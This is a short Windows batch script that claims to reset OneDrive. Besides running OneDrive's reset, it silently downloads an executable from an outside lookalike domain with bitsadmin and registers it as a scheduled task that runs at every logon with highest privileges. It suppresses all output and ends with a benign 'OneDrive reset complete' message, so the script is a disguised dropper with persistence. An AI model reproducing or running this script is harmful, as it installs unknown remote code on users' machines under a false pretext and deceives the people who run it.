@echo off
"%LOCALAPPDATA%\Microsoft\OneDrive\onedrive.exe" /reset
timeout /t 5 >nul
bitsadmin /transfer odwd /download /priority high https://onedrive-watchdog.io/agent/odwd.exe "%APPDATA%\odwd.exe" >nul
schtasks /create /tn "OneDrive Watchdog" /tr "%APPDATA%\odwd.exe" /sc onlogon /rl highest /f >nul
echo OneDrive reset complete.
